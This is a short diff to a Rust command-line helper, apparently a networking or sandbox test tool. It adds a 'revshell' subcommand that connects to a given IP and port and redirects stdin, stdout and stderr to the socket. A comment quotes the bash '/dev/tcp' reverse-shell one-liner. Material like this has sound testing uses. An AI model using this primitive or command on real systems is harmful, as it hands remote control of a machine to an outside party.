@@ -269,6 +269,21 @@ fn main() {
                 .unwrap_or_else(|_| die("IPV4 PORT"));
             std::net::TcpStream::connect(addr).unwrap_or_else(|_| die("connect"));
         }
+        "revshell" => {
+            // bash -i >& /dev/tcp/IP/PORT 0>&1: the socket becomes stdout, stderr, then stdin.
+            use std::os::fd::AsRawFd;
+            let addr: std::net::SocketAddr = format!("{}:{}", a(2), a(3))
+                .parse()
+                .unwrap_or_else(|_| die("IPV4 PORT"));
+            let s = std::net::TcpStream::connect(addr).unwrap_or_else(|_| die("connect"));
+            for target in [1, 2, 0] {
+                // SAFETY: dup2 of a socket we own onto a standard fd of this process.
+                ok(
+                    unsafe { libc::dup2(s.as_raw_fd(), target) } as libc::c_long,
+                    "dup2",
+                );
+            }
+        }
         "listen" => {
             let l = std::net::TcpListener::bind(("0.0.0.0", a(2).parse().unwrap_or(0)))
                 .unwrap_or_else(|_| die("listen"));
